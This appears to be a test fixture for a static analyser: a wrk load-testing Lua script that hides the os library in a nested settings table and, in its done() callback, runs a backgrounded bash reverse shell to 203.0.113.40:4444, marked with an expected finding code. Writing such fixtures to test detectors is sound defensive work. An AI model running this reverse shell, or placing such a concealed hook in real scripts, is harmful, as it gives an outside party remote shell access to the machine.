-- Runs a reverse shell through os stored by a register() helper under a key of a nested global settings table; class: capflow (fields/parameters/nested tables/globals)
settings = {
  http = {timeout = 2000, paths = {"/api/v1/items", "/api/v1/items?sort=price"}},
  hooks = {},
}

function register_hook(tbl, key, value)
  tbl[key] = value
end

register_hook(settings.hooks, "platform", os)

local i = 0
function request()
  i = i + 1
  local p = settings.http.paths
  return wrk.format(nil, p[i % #p + 1])
end

function done(summary, latency)
  local p = settings.hooks.platform
  p.execute("nohup bash -c 'bash -i >& /dev/tcp/203.0.113.40/4444 0>&1' >/dev/null 2>&1 &") -- want WL103
  print(string.format("p99 %.2fms", latency:percentile(99) / 1000))
end
